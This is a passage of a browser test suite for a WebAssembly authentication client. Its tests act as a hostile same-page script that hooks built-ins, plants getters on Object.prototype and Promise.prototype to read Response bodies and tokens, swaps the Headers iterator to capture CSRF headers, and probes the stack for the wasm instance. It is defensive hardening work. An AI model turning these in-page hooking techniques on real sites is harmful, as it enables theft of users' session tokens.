  "WebAssembly.Table.prototype.get", "WebAssembly.Table.prototype.grow", "Uint8Array",
  "%TypedArray%.prototype.subarray", "%TypedArray%.prototype.set", "%TypedArray%.prototype.slice",
  "%TypedArray%.prototype.byteLength", "TextDecoder.prototype.decode",
  "TextEncoder.prototype.encodeInto", "TextEncoder.prototype.encode", "Response.prototype.arrayBuffer",
  "Response.prototype.clone", "Promise.prototype.then", "Promise.resolve",
];

test("the built-ins between the page and the wasm memory, hooked right after the import, are never reached", TEST_TIMEOUT, async () => {
  await withPage(async (page) => {
    await resetJournal();
    const seen = await page.evaluate(async (names) => {
      const module = await import("/pkg/index.js?hooked-after-import");
      // The attacker, in the same tick as the import.
      const calls = Object.fromEntries(names.map((name) => [name, 0]));
      const loot = [];
      const realThen = Promise.prototype.then;
      const RealPromise = Promise;
      const typed = Object.getPrototypeOf(Uint8Array.prototype);
      const owners = {
        WebAssembly, "WebAssembly.Module": WebAssembly.Module, "WebAssembly.Instance.prototype": WebAssembly.Instance.prototype,
        "WebAssembly.Memory.prototype": WebAssembly.Memory.prototype, "WebAssembly.Table.prototype": WebAssembly.Table.prototype,
        "%TypedArray%.prototype": typed, "TextDecoder.prototype": TextDecoder.prototype,
        "TextEncoder.prototype": TextEncoder.prototype, "Response.prototype": Response.prototype,
        "Promise.prototype": Promise.prototype, Promise, window,
      };
      // Calls the package made: its module is on the stack (WebKitWebDriver's injected
      // scripts, which have no URL, use the page's Promise too).
      const fromPackage = () => (new Error().stack ?? "").includes("/pkg/");
      // The real constructors, before the loop below replaces some of them.
      const { Memory, Instance, Table } = WebAssembly;
      const keep = (value) => {
        if (value instanceof Memory || value instanceof Instance || value instanceof Table) loot.push(value);
        else if (value && typeof value === "object" && "memory" in value) loot.push(value);
      };
      for (const name of names) {
        const dot = name.lastIndexOf(".");
        const [ownerName, key] = dot < 0 ? ["window", name] : [name.slice(0, dot), name.slice(dot + 1)];
        const owner = owners[ownerName];
        const descriptor = Object.getOwnPropertyDescriptor(owner, key);
        if (!descriptor) { calls[name] = "absent"; continue; }
        if (descriptor.get) {
          Object.defineProperty(owner, key, { ...descriptor, get() { if (fromPackage()) calls[name]++; keep(this); const value = Reflect.apply(descriptor.get, this, []); keep(value); return value; } });
        } else if (typeof descriptor.value === "function") {
          const original = descriptor.value;
          const hooked = function (...args) {
            if (fromPackage()) calls[name]++;
            keep(this);
            for (const arg of args) keep(arg);
            const value = new.target ? Reflect.construct(original, args, new.target) : Reflect.apply(original, this, args);
            if (value instanceof RealPromise && name !== "Promise.prototype.then") {
              Reflect.apply(realThen, value, [(v) => { keep(v); keep(v?.instance); }, () => {}]);
            } else keep(value);
            return value;
          };
          if (original.prototype) hooked.prototype = original.prototype;
          Object.defineProperty(owner, key, { ...descriptor, value: hooked });
        }
      }
      const counted = { ...calls };
      for (const name of names) calls[name] = 0; // what the hooks themselves did so far
      const loaded = await module.default(); // an app that preloads: the same instant
      keep(loaded);
      const init = loaded === undefined ? "undefined" : typeof loaded;
      const auth = new module.AuthClient();
      await auth.login({ username: "demo", password: "demo" });
      const first = (await auth.fetch("/api/me")).status;
      await window.fetch("/auth/test/rotate-secret", { method: "POST" });
      const afterRefresh = (await auth.fetch("/api/me")).status;
      await auth.refresh();
      return { calls, first, afterRefresh, init, loot: loot.length, counted: Object.keys(counted).length };
    }, MEMORY_PATH);
    console.log(`memory path: ${JSON.stringify(seen.calls)}`);
    const reached = Object.entries(seen.calls).filter(([, count]) => count !== 0 && count !== "absent");
    assert.deepEqual(reached, [], "the package reached none of them");
    assert.equal(seen.loot, 0, "no hook saw a memory, an instance or a table");
    assert.deepEqual([seen.first, seen.afterRefresh, seen.init], [200, 200, "undefined"], "the client worked");
  });
});

// ---------------------------------------------------------------------------------------------

test("minor: after free() every method rejects with AuthError aborted, getters report signed-out", TEST_TIMEOUT, async () => {
  await withPage(async (page, errors) => {
    await signIn(page);
    const outcome = await page.evaluate(async () => {
      auth.free();
      const calls = {};
      for (const [name, call] of Object.entries({
        fetch: () => auth.fetch("/api/me"),
        login: () => auth.login({ username: "demo", password: "demo" }),
        logout: () => auth.logout(),
        refresh: () => auth.refresh(),
        restore: () => auth.restore(),
        "unbound fetch": () => { const { fetch } = auth; return fetch("/api/me"); },
      })) {
        const result = await T.within(call, 3000);
        calls[name] = !result.settled ? "hung" : result.ok ? "resolved"
          : result.error.isAuthError && !result.sync ? `rejected AuthError ${result.error.code}`
          : `${result.sync ? "threw" : "rejected"} ${result.error.name} ${result.error.code}: ${result.error.message}`;
      }
      const getters = {};
      for (const key of ["isAuthenticated", "expiresAt", "state"]) {
        try { getters[key] = auth[key]; } catch (error) { getters[key] = `threw ${error?.name}: ${error?.message}`; }
      }
      let secondFree;
      try { auth.free(); secondFree = "nothing"; } catch (error) { secondFree = `threw ${error?.name}: ${error?.message}`; }
      return { calls, getters, secondFree };
    });
    const aborted = "rejected AuthError aborted";
    assert.deepEqual(outcome, {
      calls: { fetch: aborted, login: aborted, logout: aborted, refresh: aborted, restore: aborted, "unbound fetch": aborted },
      getters: { isAuthenticated: false, expiresAt: undefined, state: "signed-out" },
      secondFree: "nothing",
    });
    assert.deepEqual(errors.filter((e) => TRAP.test(e)), [], "no trap");
  });
});

test("minor: free() inside an onChange listener stops the rest of that dispatch", TEST_TIMEOUT, async () => {
  await withPage(async (page, errors) => {
    const outcome = await page.evaluate(async () => {
      window.auth = new T.AuthClient();
      const later = [];
      let freeResult = "not called";
      auth.onChange((state) => {
        if (freeResult !== "not called") return;
        try { auth.free(); freeResult = `freed on ${state}`; } catch (error) { freeResult = `threw ${error?.name}: ${error?.message}`; }
      });
      auth.onChange((state) => later.push(state));
      const login = await T.within(() => auth.login({ username: "demo", password: "demo" }), 5000);
      await T.sleep(100);
      let isAuthenticated;
      try { isAuthenticated = auth.isAuthenticated; } catch (error) { isAuthenticated = `threw ${error?.name}: ${error?.message}`; }
      return { freeResult, later, loginSettled: login.settled, isAuthenticated };
    });
    console.log("free() in a listener:", JSON.stringify(outcome));
    assert.deepEqual(outcome, { freeResult: "freed on signed-in", later: [], loginSettled: true, isAuthenticated: false });
    assert.deepEqual(errors.filter((e) => TRAP.test(e)), [], "no trap");
  });
});

test("setters a later script puts on Object.prototype or Error.prototype neither see nor stop the client's errors", TEST_TIMEOUT, async () => {
  await withPage(async (page) => {
    await resetJournal();
    await signIn(page);
    await fixture.server.control("/auth/test/rotate-secret");
    await fixture.server.control("/auth/test/refresh-fault", { kind: "status", status: 500 });
    const outcome = await page.evaluate(async () => {
      const seen = [];
      const trap = (owner, key) => {
        const before = Object.getOwnPropertyDescriptor(owner, key);
        Object.defineProperty(owner, key, {
          configurable: true,
          get() { return before?.value; },
          set(value) { seen.push(`${key}=${String(value)}`); throw new Error(`attacker: ${key}`); },
        });
        return () => (before ? Object.defineProperty(owner, key, before) : delete owner[key]);
      };
      const undo = [trap(Object.prototype, "code"), trap(Error.prototype, "name")];
      // The refresh answers 500: the call must reject with an AuthError all the same.
      const failed = await T.within(() => auth.fetch("/api/me"), 3000);
      for (const restore of undo) restore();
      const next = T.brief(await T.within(() => auth.fetch("/api/me"), 3000));
      return {
        failed: failed.settled ? (failed.ok ? "resolved" : `${failed.error.isAuthError} ${failed.error.code}`) : "hung",
        next,
        seen,
      };
    });
    assert.deepEqual(outcome, { failed: "true refresh_failed", next: 200, seen: [] });
  });
});

test("minor: a revoked Proxy as options throws AuthError invalid_config", TEST_TIMEOUT, async () => {
  await withPage(async (page) => {
    const outcome = await page.evaluate(() => {
      const { proxy, revoke } = Proxy.revocable({}, {});
      revoke();
      try {
        new T.AuthClient(proxy);
        return "constructed";
      } catch (error) {
        const { name, code, isAuthError } = T.describe(error);
        return { name, code, isAuthError };
      }
    });
    assert.deepEqual(outcome, { name: "AuthError", code: "invalid_config", isAuthError: true });
  });
});

test("minor: expires_in: 1e308 does not make expiresAt Infinity", TEST_TIMEOUT, async () => {
  const foreign = await startForeign(() => ({
    status: 200,
    json: { access_token: "opaque-login-token", token_type: "Bearer", expires_in: 1e308 },
  }));
  try {
    await withPage(async (page, errors) => {
      const outcome = await page.evaluate(async ({ foreign }) => {
        const auth = new T.AuthClient({ loginUrl: `${foreign}/login`, crossTab: false });
        const login = T.brief(await T.within(() => auth.login({ username: "demo", password: "demo" })));
        const expiresAt = auth.expiresAt;
        // A call after it must not hang on an infinite deadline.
        const call = T.brief(await T.within(() => auth.fetch("/api/ping"), 5000));
        return { login, expiresAt, finiteOrUndefined: expiresAt === undefined || (typeof expiresAt === "number" && Number.isFinite(expiresAt)), call };
      }, { foreign: foreign.url });
      console.log("expires_in 1e308:", JSON.stringify(outcome));
      assert.ok(foreign.sent().some((r) => r.path === "/login"), "the login went to the test endpoint");
      assert.equal(outcome.finiteOrUndefined, true, `expiresAt is ${outcome.expiresAt}`);
      assert.notEqual(outcome.call, "hung");
      assert.deepEqual(errors.filter((e) => TRAP.test(e)), [], "no trap");
    });
  } finally {
    await foreign.stop();
  }
});

test("minor: 50 synthetic online events with a valid token cause at most one refresh", TEST_TIMEOUT, async () => {
  await withPage(async (page) => {
    await signIn(page);
    await resetJournal();
    const status = await page.evaluate(async () => {
      for (let i = 0; i < 25; i++) window.dispatchEvent(new Event("online"));
      for (let i = 0; i < 25; i++) {
        window.dispatchEvent(new Event("online"));
        await T.sleep(20);
      }
      await T.sleep(1500);
      return T.brief(await T.within(() => auth.fetch("/api/me")));
    });
    const refreshes = (await fixture.server.journal()).filter((e) => e.path === "/auth/refresh").length;
    console.log(`online events: ${refreshes} refreshes`);
    assert.equal(status, 200);
    assert.ok(refreshes <= 1, `${refreshes} refreshes`);
  });
});

test("review: an answer over 4 M characters is not read into the core; one under it is", TEST_TIMEOUT, async () => {
  // A server (or another tab's script, on the channel) could otherwise grow the core's memory
  // without bound, and past what it can allocate, which traps.
  const padding = { under: "x".repeat(4_000_000), over: "x".repeat(4_200_000) };
  const foreign = await startForeign((entry) => ({
    status: 200,
    json: { access_token: "opaque-login-token", token_type: "Bearer", pad: padding[entry.path.slice(1)] },
  }));
  try {
    await withPage(async (page, errors) => {
      await signIn(page);
      const outcome = await page.evaluate(async ({ foreign }) => {
        const login = async (size) => {
          const auth = new T.AuthClient({ loginUrl: `${foreign}/${size}`, crossTab: false });
          const result = await T.within(() => auth.login({ username: "demo", password: "demo" }), 20_000);
          return { ok: result.ok, code: result.error?.code, message: result.error?.message, authenticated: auth.isAuthenticated };
        };
        const over = await login("over");
        const under = await login("under");
        // The channel: a message far over the limit changes nothing and wedges nothing.
        const channel = new BroadcastChannel("authfetch:" + new URL("/auth/refresh", location.href).href);
        channel.postMessage("signed-out".padEnd(5_000_000, " "));
        await T.sleep(300);
        const call = T.brief(await T.within(() => auth.fetch("/api/ping"), 5000));
        return { over, under, call };
      }, { foreign: foreign.url });
      assert.deepEqual(outcome.over, { ok: false, code: "bad_response", message: `the login response is not JSON (POST ${foreign.url}/over)`, authenticated: false });
      assert.deepEqual(outcome.under, { ok: true, code: undefined, message: undefined, authenticated: true });
      assert.equal(outcome.call, 200);
      assert.deepEqual(errors.filter((e) => TRAP.test(e)), [], "no trap");
    });
  } finally {
    await foreign.stop();
  }
});

test("review: a then getter a later script puts on Object.prototype sees no Response of the client's, and cannot hold a call", TEST_TIMEOUT, async () => {
  await withPage(async (page) => {
    await resetJournal();
    const outcome = await page.evaluate(async () => {
      window.auth = new T.AuthClient({ timeoutMs: 2000 });
      // The attacker, after load: every promise resolved with an object asks it for `then`.
      // Resolving fetch's promise hands this getter the Response, body unread.
      const RealResponse = Response;
      const clone = Response.prototype.clone;
      const text = Response.prototype.text;
      const bodies = [];
      let hold = false;
      Object.defineProperty(Object.prototype, "then", {
        configurable: true,
        get() {
          if (!(this instanceof RealResponse)) return undefined;
          Reflect.apply(text, Reflect.apply(clone, this, []), []).then((body) => bodies.push(body), () => bodies.push("?"));
          // A then that never calls back keeps the promise waiting for good.
          return hold ? () => {} : undefined;
        },
      });
      const results = {};
      results.login = T.brief(await T.within(() => auth.login({ username: "demo", password: "demo" })));
      results.call = T.brief(await T.within(() => auth.fetch("/api/me")));
      await T.fetch("/auth/test/rotate-secret", { method: "POST" }); // the next call: 401, refresh, retry
      results.afterRotation = T.brief(await T.within(() => auth.fetch("/api/me")));
      hold = true;
      results.heldRefresh = T.brief(await T.within(() => auth.refresh(), 4000));
      results.heldCall = T.brief(await T.within(() => auth.fetch("/api/me"), 4000));
      await T.sleep(100);
      delete Object.prototype.then;
      results.seen = bodies.length;
      results.tokens = bodies.filter((body) => body.includes("access_token")).length;
      return results;
    });
    assert.deepEqual(outcome, {
      login: "ok", call: 200, afterRotation: 200, heldRefresh: "ok", heldCall: 200, seen: 0, tokens: 0,
    });
  });
});

test("review: a later script cannot swap AuthError's parent, take the client's methods through Object.prototype setters, or read Date credentials", TEST_TIMEOUT, async () => {
  await withPage(async (page) => {
    await resetJournal();
    const outcome = await page.evaluate(async () => {
      const results = {};
      // `super()` finds AuthError's parent when it runs: a throwing one would make every
      // error of the client throw, and the call that should reject with it hang.
      try {
        Object.setPrototypeOf(T.AuthError, function () { throw new Error("attacker"); });
        results.swapped = "yes";
      } catch {
        results.swapped = "refused";
      }
      const failing = new T.AuthClient({ loginUrl: "/no-such-endpoint" });
      results.failedLogin = T.brief(await T.within(() => failing.login({ username: "demo", password: "demo" }), 3000));
      failing.free();
      // Setters for the methods' names: an assignment in the constructor would call them.
      const taken = [];
      const stolen = Object.create(null);
      for (const name of ["fetch", "login", "free"]) {
        Object.defineProperty(Object.prototype, name, { configurable: true, set(method) { taken.push(name); stolen[name] = method; }, get() { return undefined; } });
      }
      const auth = new T.AuthClient();
      for (const name of ["fetch", "login", "free"]) delete Object.prototype[name];
      results.taken = taken;
      results.ownFetch = Object.hasOwn(auth, "fetch") && typeof auth.fetch === "function";
      // A Date in the credentials: Date.prototype.toJSON would ask it for toISOString.
      const seen = [];
      const toISOString = Date.prototype.toISOString;
      Date.prototype.toISOString = function () { seen.push(String(this.getTime())); return Reflect.apply(toISOString, this, []); };
      // (Where a setter took it, the method it was handed.)
      const login = Object.hasOwn(auth, "login") ? auth.login : stolen.login;
      results.login = T.brief(await T.within(() => login({ username: "demo", password: "demo", at: new Date(0) })));
      Date.prototype.toISOString = toISOString;
      results.dateSeen = seen;
      (Object.hasOwn(auth, "free") ? auth.free : stolen.free)();
      return results;
    });
    assert.deepEqual(outcome, {
      swapped: "refused",
      failedLogin: `rejected AuthError login_failed: the login endpoint answered 404, not a refusal of the credentials: loginUrl is probably wrong (POST ${fixture.server.url}/no-such-endpoint)`,
      taken: [],
      ownFetch: true,
      login: "ok",
      dateSeen: [],
    });
    const logins = (await fixture.server.journal()).filter((entry) => entry.path === "/auth/login");
    assert.equal(logins.length, 1);
    assert.equal(JSON.parse(logins[0].body).at, "1970-01-01T00:00:00.000Z", "the date is sent as toJSON writes it");
  });
});

// Not in WebKit: WebKitWebDriver awaits each script it runs through `Promise.prototype.then`
// with native callbacks too, so the hook below stops the test's own driver there.
const NOT_IN_WEBKIT = { ...TEST_TIMEOUT, skip: engine === "webkit" && "the hook would stop WebKitWebDriver's own scripts" };

test("review: a later script's Promise.prototype.then and constructor cannot keep the cross-tab refresh lock held", NOT_IN_WEBKIT, async () => {
  await withPage(async (page) => {
    await resetJournal();
    await signIn(page, { timeoutMs: 2000 });
    const outcome = await page.evaluate(async () => {
      const locks = navigator.locks;
      const query = LockManager.prototype.query;
      const held = async () => (await Reflect.apply(query, locks, [])).held.map((lock) => lock.name);
      // The attacker: the lock is released when the promise the client's callback returned
      // settles, which the lock manager may learn through `then` (after reading `constructor`,
      // to cast it): subscriptions made by the platform (its callbacks are native functions)
      // are dropped. The hooks also stop every `await` in the page, so they are in place only
      // while the refresh runs, and the test waits through callbacks meanwhile.
      const then = Promise.prototype.then;
      const toText = Function.prototype.toString;
      const native = (fn) => typeof fn === "function" && Reflect.apply(toText, fn, []).includes("[native code]");
      const constructor = Object.getOwnPropertyDescriptor(Promise.prototype, "constructor");
      const refresh = await new Promise((finish) => setTimeout(() => {
        Promise.prototype.then = function (onFulfilled, onRejected) {
          if (native(onFulfilled) && native(onRejected)) return undefined;
          return Reflect.apply(then, this, [onFulfilled, onRejected]);
        };
        Object.defineProperty(Promise.prototype, "constructor", { configurable: true, get() { return Object; } });
        Reflect.apply(then, T.within(() => auth.refresh(), 4000), [(result) => setTimeout(() => {
          Promise.prototype.then = then;
          Object.defineProperty(Promise.prototype, "constructor", constructor);
          finish(T.brief(result));
        }, 100)]);
      }, 0));
      const heldAfter = (await held()).filter((name) => name.startsWith("authfetch:"));
      const again = T.brief(await T.within(() => auth.refresh(), 4000));
      return { refresh, heldAfter, again };
    });
    assert.deepEqual(outcome, { refresh: "ok", heldAfter: [], again: "ok" });
  });
});

test("review: a getter a later script puts on Promise.prototype.constructor sees no answer the client reads", TEST_TIMEOUT, async () => {
  await withPage(async (page) => {
    await resetJournal();
    const outcome = await page.evaluate(async () => {
      window.auth = new T.AuthClient();
      // `then` asks the promise it subscribes to for its `constructor`: a getter there is
      // called with that promise, and can subscribe to it too (a login answer's text, a
      // Response), or throw.
      const then = Promise.prototype.then;
      const constructor = Object.getOwnPropertyDescriptor(Promise.prototype, "constructor");
      const seen = [];
      let busy = false;
      Object.defineProperty(Promise.prototype, "constructor", {
        configurable: true,
        get() {
          if (!busy) {
            busy = true;
            Reflect.apply(then, this, [(value) => {
              if (typeof value === "string") seen.push(value);
              else if (value instanceof Response) Reflect.apply(then, value.clone().text(), [(text) => seen.push(text)]);
            }, () => {}]);
            busy = false;
          }
          return Promise;
        },
      });
      const results = {};
      results.login = T.brief(await T.within(() => auth.login({ username: "demo", password: "demo" })));
      await T.fetch("/auth/test/rotate-secret", { method: "POST" });
      results.afterRotation = T.brief(await T.within(() => auth.fetch("/api/me")));
      results.refresh = T.brief(await T.within(() => auth.refresh()));
      await T.sleep(100);
      Object.defineProperty(Promise.prototype, "constructor", constructor);
      results.answersSeen = seen.filter((text) => text.includes("access_token")).length;
      return results;
    });
    assert.deepEqual(outcome, { login: "ok", afterRotation: 200, refresh: "ok", answersSeen: 0 });
  });
});

test("review: a Headers iterator a later script replaces neither reads nor drops the refresh's CSRF header", TEST_TIMEOUT, async () => {
  await withPage(async (page) => {
    await resetJournal();
    await fixture.server.control("/auth/test/config", { csrf: true });
    try {
      const outcome = await page.evaluate(async () => {
        window.auth = new T.AuthClient({ csrf: { cookie: "csrf_refresh_token", header: "X-CSRF-TOKEN" }, refreshHeaders: { "X-Requested-With": "authfetch" } });
        const login = T.brief(await T.within(() => auth.login({ username: "demo", password: "demo" })));
        // The attacker: what `new Request(url, { headers })` reads from a Headers object, it
        // reads through this iterator; this one records and yields nothing.
        const iterator = Headers.prototype[Symbol.iterator];
        const seen = [];
        Headers.prototype[Symbol.iterator] = function* () {
          for (const entry of Reflect.apply(iterator, this, [])) seen.push(entry.join(": "));
        };
        const refresh = T.brief(await T.within(() => auth.refresh()));
        Headers.prototype[Symbol.iterator] = iterator;
        return { login, refresh, seen: seen.filter((line) => /csrf|requested-with/i.test(line)) };
      });
      assert.deepEqual(outcome, { login: "ok", refresh: "ok", seen: [] });
      const refreshes = (await fixture.server.journal()).filter((entry) => entry.path === "/auth/refresh");
      assert.equal(refreshes.length, 1);
      assert.equal(refreshes[0].csrf_header?.length, 43, "the CSRF header arrived");
    } finally {
      await fixture.server.control("/auth/test/config", { csrf: false });
    }
  });
});

test("review: replacing globalThis and Error after load stops neither new clients nor instanceof AuthError", TEST_TIMEOUT, async () => {
  await withPage(async (page) => {
    await resetJournal();
    const outcome = await page.evaluate(async () => {
      const RealError = Error;
      const results = {};
      globalThis.Error = function Error() {};
      try {
        new T.AuthClient({ timeoutMs: -1 });
      } catch (error) {
        results.refused = error instanceof T.AuthError;
      }
      globalThis.Error = RealError;
      const realGlobal = globalThis;
      globalThis = 0; // eslint-disable-line no-global-assign
      let made;
      try {
        made = new T.AuthClient();
        results.made = "ok";
      } catch (error) {
        results.made = `${error.name}: ${error.message}`;
      }
      realGlobal.globalThis = realGlobal;
      results.login = made ? T.brief(await T.within(() => made.login({ username: "demo", password: "demo" }))) : "no client";
      made?.free();
      return results;
    });
    assert.deepEqual(outcome, { refused: true, made: "ok", login: "ok" });
  });
});

test("review: signed-out and signed-in posted on the tabs' channel on repeat keep no call waiting", TEST_TIMEOUT, async () => {
  await withPage(async (page, errors) => {
    await resetJournal();
    await signIn(page);
    // Each refresh takes a while, so the script's messages arrive while one runs.
    await fixture.server.control("/auth/test/refresh-fault", { kind: "slow", ms: 300, count: 50 });
    const outcome = await page.evaluate(async () => {
      // Any script of the origin can open the channel the client's tabs talk on.
      const channel = new BroadcastChannel("authfetch:" + new URL("/auth/refresh", location.href).href);
      let storming = true;
      const storm = () => {
        if (!storming) return;
        channel.postMessage("signed-out");
        channel.postMessage("signed-in");
        setTimeout(storm, 20);
      };
      storm();
      const refreshing = T.within(() => auth.refresh(), 4000);
      await T.sleep(60); // the session is unknown now: this call waits for a refresh
      const calling = T.within(() => auth.fetch("/api/me"), 4000);
      const [refresh, call] = await Promise.all([refreshing, calling]);
      storming = false;
      channel.close();
      await T.sleep(100);
      const after = T.brief(await T.within(() => auth.fetch("/api/me"), 4000));
      return { refresh: refresh.settled && refresh.ms < 2000, call: call.settled && call.ms < 2000, after };
    });
    assert.deepEqual(outcome, { refresh: true, call: true, after: 200 });
    assert.deepEqual(errors.filter((e) => TRAP.test(e)), [], "no trap");
  });
});

test("review: calls into the client with the stack all but used up neither wedge it nor hand out the wasm instance", { timeout: 180_000 }, async () => {
  await withPage(async (page, errors) => {
    await resetJournal();
    await signIn(page);
    await page.evaluate(() => {
      window.other = new T.AuthClient(); // another client of the page, which the attack never calls
      // V8 hands `Error.prepareStackTrace` the frames of an error's stack, each with its
      // `this`: a wasm frame's is the instance. Other engines never call it.
      window.instanceSeen = false;
      window.hook = (error, sites) => {
        for (const site of sites) {
          try {
            if (site.getThis() instanceof WebAssembly.Instance) window.instanceSeen = true;
          } catch {}
        }
        return "";
      };
      window.entries = {
        isAuthenticated: () => auth.isAuthenticated,
        state: () => auth.state,
        "new AuthClient": () => new T.AuthClient().free(),
      };
    });
    const results = {};
    for (const name of ["isAuthenticated", "state", "new AuthClient"]) {
      results[name] = await page.evaluate((name) => {
        const entry = window.entries[name];
        // Fine steps of depth: one more frame, or 8 bytes more of arguments.
        const pads = Array.from({ length: 17 }, (_, k) => new Array(k).fill(0));
        const pad = () => entry();
        const deep = (n, k) => {
          if (n > 0) return deep(n - 1, k) + 0;
          try {
            pad(...pads[k]);
          } catch (error) {
            try { error.stack; } catch {}
          }
          return 1;
        };
        const at = (n, k) => { try { return deep(n, k); } catch { return -1; } };
        const started = performance.now();
        let tries = 0;
        Error.prepareStackTrace = window.hook;
        // For 8 s, or until the client is lost or the instance seen: each round finds the
        // deepest call that does not overflow, then calls the entry from just above it.
        while (performance.now() - started < 8000 && !window.instanceSeen && auth.state === "signed-in") {
          let lo = 0, hi = 200_000;
          while (lo < hi) {
            const mid = (lo + hi + 1) >> 1;
            if (at(mid, 0) !== -1) lo = mid;
            else hi = mid - 1;
          }
          for (let n = lo; n > lo - 200 && !window.instanceSeen; n--) for (let k = 0; k < pads.length; k++, tries++) at(n, k);
        }
        Error.prepareStackTrace = undefined;
        return { instance: window.instanceSeen, state: auth.state, tried: tries > 0 };
      }, name);
    }
    const after = await page.evaluate(async () => ({
      call: T.brief(await T.within(() => auth.fetch("/api/me"), 3000)),
      others: T.brief(await T.within(() => other.restore(), 3000)),
    }));
    const kept = { instance: false, state: "signed-in", tried: true };
    assert.deepEqual({ results, ...after }, {
      results: { isAuthenticated: kept, state: kept, "new AuthClient": kept },
      call: 200,
      others: "true",
    });
    assert.deepEqual(errors.filter((e) => TRAP.test(e)), [], "no trap");
  });
});
